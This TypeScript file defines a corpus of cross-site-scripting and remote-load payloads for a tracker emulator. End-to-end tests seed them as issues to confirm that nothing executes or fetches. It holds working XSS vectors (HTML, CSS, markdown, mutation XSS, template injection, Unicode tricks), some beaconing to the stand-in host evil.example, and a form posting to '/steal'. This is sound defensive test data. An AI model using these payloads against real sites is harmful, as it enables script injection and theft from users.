/**
 * The hostile-content corpus: script-injection and remote-load payloads that a Tracker user could
 * type into a summary, a description or a comment. The emulator seeds one issue per payload in the
 * `HOSTILE` queue when asked (`createSeedWorld({ hostileCorpus: true })`), so an end-to-end test can
 * open each one in a real browser and check that nothing ran and nothing was fetched.
 *
 * Conventions every payload follows, so a test can detect a failure:
 * - code that would run sets `window.__pwned` ({@link PWNED_GLOBAL}), calls `alert(1)`, or fetches
 *   `https://evil.example/pwned/<id>`;
 * - every remote host is `evil.example` ({@link EVIL_HOST}, reserved by RFC 2606), so any request
 *   to it means a payload got through.
 *
 * The corpus is plain data; nothing here renders or sanitizes anything.
 */

/** The global a payload sets when its script runs. */
export const PWNED_GLOBAL = '__pwned';
/** The only remote host payloads name. */
export const EVIL_HOST = 'evil.example';
/** The queue the corpus is seeded into. */
export const HOSTILE_QUEUE_KEY = 'HOSTILE';

/** Where a payload attacks. */
export type HostileCategory =
  | 'html' // raw HTML elements and attributes
  | 'css' // style sheets, inline styles, url()
  | 'markdown' // CommonMark links, autolinks, images, references
  | 'yfm' // Yandex Flavored Markdown: cuts, notes, colours, mentions, tables, code fences
  | 'mxss' // mutation XSS: markup that changes meaning when parsed twice
  | 'template' // client-side template injection
  | 'unicode'; // entities, invisible and look-alike characters

/** One payload. */
export interface HostilePayload {
  /** Stable kebab-case id; tests and reports name payloads by it. */
  readonly id: string;
  /** What the payload tries, in a few words. */
  readonly label: string;
  readonly category: HostileCategory;
  /** The text exactly as a user would type it (description and comment body). */
  readonly text: string;
}

const PWN = `window.${PWNED_GLOBAL}=1`;
const EVIL = `https://${EVIL_HOST}`;
/** A fetch that reports which payload ran. */
const beacon = (id: string): string => `fetch('${EVIL}/pwned/${id}')`;
/** `<script>window.__pwned=1</script>`, base64 (for data: URLs). */
const SCRIPT_B64 = btoa(`<script>${PWN}</script>`);

function p(id: string, category: HostileCategory, label: string, text: string): HostilePayload {
  return { id, label, category, text };
}

/** The corpus, in seeding order (issue `HOSTILE-n` holds payload `n - 1`). */
export const HOSTILE_PAYLOADS: readonly HostilePayload[] = [
  // Raw HTML: script and event handlers.
  p('script-inline', 'html', '<script> tag', `<script>${PWN};alert(1)</script>`),
  p('script-remote', 'html', '<script src> remote', `<script src="${EVIL}/x.js"></script>`),
  p('img-onerror', 'html', 'img onerror', `<img src=x onerror="${PWN};${beacon('img-onerror')}">`),
  p('svg-onload', 'html', 'svg onload', `<svg onload="${PWN}"><circle r="1"/></svg>`),
  p('body-onload', 'html', 'body onload', `<body onload="${PWN}">text</body>`),
  p(
    'details-ontoggle',
    'html',
    'details open ontoggle',
    `<details open ontoggle="${PWN}"><summary>x</summary>y</details>`,
  ),
  p(
    'input-onfocus',
    'html',
    'input autofocus onfocus',
    `<input autofocus onfocus="${PWN}"><textarea autofocus onfocus="alert(1)"></textarea>`,
  ),
  p('html-javascript-link', 'html', 'a href=javascript:', `<a href="javascript:${PWN}">click</a>`),
  p(
    'html-vbscript-link',
    'html',
    'a href=vbscript:',
    `<a href="vbscript:msgbox(1)">click</a> <a href=" javascript:${PWN}">spaced</a>`,
  ),
  p(
    'html-data-link',
    'html',
    'a href=data:text/html',
    `<a href="data:text/html;base64,${SCRIPT_B64}">click</a>`,
  ),
  p(
    'html-entity-javascript-link',
    'html',
    'a href with entity-encoded javascript:',
    `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${PWN}">click</a>`,
  ),
  p('iframe-remote', 'html', 'iframe src remote', `<iframe src="${EVIL}/frame"></iframe>`),
  p(
    'iframe-srcdoc',
    'html',
    'iframe srcdoc with script',
    `<iframe srcdoc="<script>parent.${PWNED_GLOBAL}=1</script>"></iframe>`,
  ),
  p(
    'object-embed',
    'html',
    'object data and embed src',
    `<object data="${EVIL}/x.swf"></object><embed src="${EVIL}/x.svg">`,
  ),
  p(
    'meta-refresh',
    'html',
    'meta http-equiv=refresh',
    `<meta http-equiv="refresh" content="0;url=${EVIL}/refresh">`,
  ),
  p('base-href', 'html', 'base href', `<base href="${EVIL}/">[relative](x.html) ![i](i.png)`),
  p(
    'form-action',
    'html',
    'form action and formaction',
    `<form action="${EVIL}/steal"><input name=q value=secret>` +
      `<button formaction="javascript:${PWN}">go</button></form>`,
  ),
  p(
    'img-remote-raw',
    'html',
    'raw img src protocol-relative',
    `<img src="//${EVIL_HOST}/pixel.png"><img src="${EVIL}/pixel2.png">`,
  ),
  p(
    'img-srcset',
    'html',
    'img and picture srcset',
    `<img srcset="${EVIL}/1x.png 1x, ${EVIL}/2x.png 2x">` +
      `<picture><source srcset="${EVIL}/p.png"><img src="x"></picture>`,
  ),
  p(
    'media-remote',
    'html',
    'video poster, audio and track src',
    `<video poster="${EVIL}/poster.png"><source src="${EVIL}/v.mp4"></video>` +
      `<audio src="${EVIL}/a.mp3" autoplay></audio>`,
  ),
  p(
    'svg-use',
    'html',
    'svg use href remote',
    `<svg><use href="${EVIL}/sprite.svg#a"></use><use xlink:href="${EVIL}/s2.svg#b"></use></svg>`,
  ),
  p(
    'svg-script',
    'html',
    'svg with script and image',
    `<svg><script>${PWN}</script><image href="${EVIL}/i.png"/></svg>`,
  ),
  p(
    'html-comment-breakout',
    'html',
    'comment and CDATA breakouts',
    `<!--><img src=x onerror="${PWN}">--><![CDATA[><img src=x onerror="alert(1)">]]>`,
  ),
  p(
    'context-breakout',
    'html',
    'closing textarea/title/script contexts',
    `</textarea></title></script><script>${PWN}</script>`,
  ),

  // CSS.
  p(
    'link-stylesheet',
    'css',
    'link rel=stylesheet remote',
    `<link rel="stylesheet" href="${EVIL}/x.css">`,
  ),
  p('style-import', 'css', 'style @import', `<style>@import url("${EVIL}/import.css");</style>`),
  p(
    'style-url',
    'css',
    'style block with url()',
    `<style>body{background:url(${EVIL}/bg.png)}</style>`,
  ),
  p(
    'inline-style-url',
    'css',
    'inline style with url()',
    `<p style="background-image:url('${EVIL}/inline.png')">styled</p>` +
      `<div style="behavior:url(${EVIL}/x.htc);width:expression(alert(1))">ie</div>`,
  ),

  // Markdown.
  p('md-javascript-link', 'markdown', 'markdown link javascript:', `[click](javascript:${PWN})`),
  p(
    'md-javascript-link-case',
    'markdown',
    'markdown link, mixed case and angle brackets',
    `[one](JaVaScRiPt:${PWN}) [two](<javascript:${PWN}>)`,
  ),
  p('md-vbscript-link', 'markdown', 'markdown link vbscript:', `[click](vbscript:msgbox(1))`),
  p(
    'md-data-link',
    'markdown',
    'markdown link data:text/html',
    `[click](data:text/html;base64,${SCRIPT_B64})`,
  ),
  p(
    'md-autolink',
    'markdown',
    'autolinks javascript: and data:',
    `<javascript:${PWN}> <data:text/html;base64,${SCRIPT_B64}> <vbscript:msgbox(1)>`,
  ),
  p(
    'md-reference-link',
    'markdown',
    'reference-style javascript: link and remote image',
    `[click][x] and ![img][y]\n\n[y]: ${EVIL}/ref.png\n\n[x]: javascript:${PWN}`,
  ),
  p(
    'md-protocol-relative-link',
    'markdown',
    'protocol-relative and backslash links',
    `[a](//${EVIL_HOST}/a) [b](\\\\${EVIL_HOST}/b) [c](/\\${EVIL_HOST}/c)`,
  ),
  p('md-image-remote', 'markdown', 'markdown image remote', `![x](${EVIL}/x.png)`),
  p(
    'md-image-protocol-relative',
    'markdown',
    'markdown image protocol-relative',
    `![x](//${EVIL_HOST}/x.png "title")`,
  ),
  p(
    'md-image-script-urls',
    'markdown',
    'markdown image javascript: and data:svg',
    `![a](javascript:${PWN}) ![b](data:image/svg+xml;base64,` +
      `${btoa(`<svg xmlns="http://www.w3.org/2000/svg" onload="${PWN}"/>`)})`,
  ),
  p(
    'md-image-in-link',
    'markdown',
    'remote image inside a javascript: link',
    `[![x](${EVIL}/nested.png)](javascript:${PWN})`,
  ),
  p(
    'md-title-breakout',
    'markdown',
    'link title and image alt attribute breakout',
    `[x](${EVIL}/ "\\" onmouseover=\\"${PWN}") ![" onerror="${PWN}](x.png)`,
  ),
  p(
    'md-html-in-emphasis',
    'markdown',
    'raw HTML inside heading, quote, emphasis and link text',
    `# <img src=x onerror="${PWN}">\n\n> <script>${PWN}</script>\n\n` +
      `*<svg onload="${PWN}">* [<img src=x onerror="${PWN}">](${EVIL}/)`,
  ),
  p(
    'md-pipe-table',
    'markdown',
    'pipe table cells with HTML and alignment',
    `| a | b |\n|:--|--:|\n| <img src=x onerror="${PWN}"> | [x](javascript:${PWN}) |`,
  ),

  // Yandex Flavored Markdown.
  p(
    'yfm-cut-title',
    'yfm',
    'cut title with HTML, body with a javascript: link',
    `{% cut "title<img src=x onerror=alert(1)>" %}\n\n[inside](javascript:${PWN})\n\n{% endcut %}`,
  ),
  p(
    'yfm-note-title',
    'yfm',
    'note title with script, body with HTML',
    `{% note warning "<script>${PWN}</script>" %}\n\n<img src=x onerror="${PWN}">\n\n{% endnote %}`,
  ),
  p(
    'yfm-color',
    'yfm',
    'colour markup wrapping HTML and links',
    `{red}(<img src=x onerror="${PWN}">) {blue}([x](javascript:${PWN}))` +
      ` {green}(![i](${EVIL}/c.png))`,
  ),
  p(
    'yfm-mention',
    'yfm',
    'mentions and issue keys glued to HTML',
    `@alex.smirnov"><img src=x onerror="${PWN}"> @<script>${PWN}</script> ` +
      `HOSTILE-1"><svg onload="${PWN}">`,
  ),
  p(
    'yfm-table',
    'yfm',
    'YFM table cells with HTML, links and images',
    `#|\n|| <img src=x onerror="${PWN}"> | [x](javascript:${PWN}) ||\n` +
      `|| ![t](${EVIL}/t.png) | <iframe src="${EVIL}/cell"></iframe> ||\n|#`,
  ),
  p(
    'yfm-checklist',
    'yfm',
    'checklist item with an input',
    `- [x] <input type=text autofocus onfocus="${PWN}">\n- [ ] [x](javascript:${PWN})`,
  ),
  p(
    'code-fence-lang',
    'yfm',
    'code fence language name breaking out of class',
    `\`\`\`"><img src=x onerror=alert(1)>\ncode\n\`\`\`\n\n` +
      `\`\`\`js" onmouseover="${PWN}\ncode\n\`\`\``,
  ),
  p(
    'code-fence-xml',
    'yfm',
    'highlighted xml and inline code with script',
    `\`\`\`xml\n<script>${PWN}</script>\n<img src=x onerror="${PWN}">\n\`\`\`\n\n` +
      `Inline \`<script>${PWN}</script>\``,
  ),

  // Mutation XSS.
  p(
    'mxss-noscript',
    'mxss',
    'noscript title breakout',
    `<noscript><p title="</noscript><img src=x onerror=${PWN}>">`,
  ),
  p(
    'mxss-math-style',
    'mxss',
    'math/mtext/table/mglyph/style namespace confusion',
    `<math><mtext><table><mglyph><style><img src=x onerror=${PWN}>`,
  ),
  p(
    'mxss-svg-style',
    'mxss',
    'svg style with a closing tag inside an attribute',
    `<svg></p><style><a id="</style><img src=1 onerror=${PWN}>">`,
  ),
  p(
    'mxss-xmp',
    'mxss',
    'xmp/plaintext raw-text breakouts',
    `<xmp><img src=x onerror=${PWN}></xmp><listing>&lt;img src=x onerror=${PWN}&gt;</listing>`,
  ),

  // Template injection.
  p(
    'template-injection',
    'template',
    'Angular/Vue/Svelte-style template expressions',
    `{{constructor.constructor('${PWN}')()}} {{7*7}} \${alert(1)} {@html '<img src=x onerror=${PWN}>'}`,
  ),

  // Entities and Unicode.
  p(
    'entity-tab-javascript',
    'unicode',
    'javascript: split by an encoded tab',
    `[click](jav&#x09;ascript:${PWN}) <a href="jav&#x09;ascript:${PWN}">raw</a>`,
  ),
  p(
    'entity-javascript',
    'unicode',
    'entity-encoded javascript: in markdown',
    `[one](&#106;avascript:${PWN}) [two](javascript&colon;${PWN}) ` +
      `[three](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;${PWN})`,
  ),
  p(
    'unicode-invisible',
    'unicode',
    'zero-width, NUL and line separators in schemes',
    `[one](java\u200bscript:${PWN}) [two](\u0000javascript:${PWN}) ` +
      `[three](javascript\u2028:${PWN}) \u2028</script><script>${PWN}</script>`,
  ),
  p(
    'unicode-lookalike',
    'unicode',
    'fullwidth brackets and right-to-left override',
    `\uff1cscript\uff1e${PWN}\uff1c/script\uff1e \u202e[gpj.exe](javascript:${PWN})\u202c`,
  ),
];

/** A summary holding the payload: its first line, whitespace runs collapsed (summaries are one line). */
export function hostileSummary(payload: HostilePayload): string {
  const firstLine = payload.text.split('\n').find((line) => line.trim() !== '') ?? payload.id;
  return `[${payload.id}] ${firstLine.replace(/\s+/g, ' ').trim()}`;
}

/** One seeded hostile issue. */
export interface HostileIssue {
  /** `HOSTILE-<n>`, n from 1 in {@link HOSTILE_PAYLOADS} order. */
  readonly key: string;
  readonly payload: HostilePayload;
}

/** The keys the corpus is seeded under, with their payloads. */
export function hostileIssues(): readonly HostileIssue[] {
  return HOSTILE_PAYLOADS.map((payload, i) => ({ key: `${HOSTILE_QUEUE_KEY}-${i + 1}`, payload }));
}
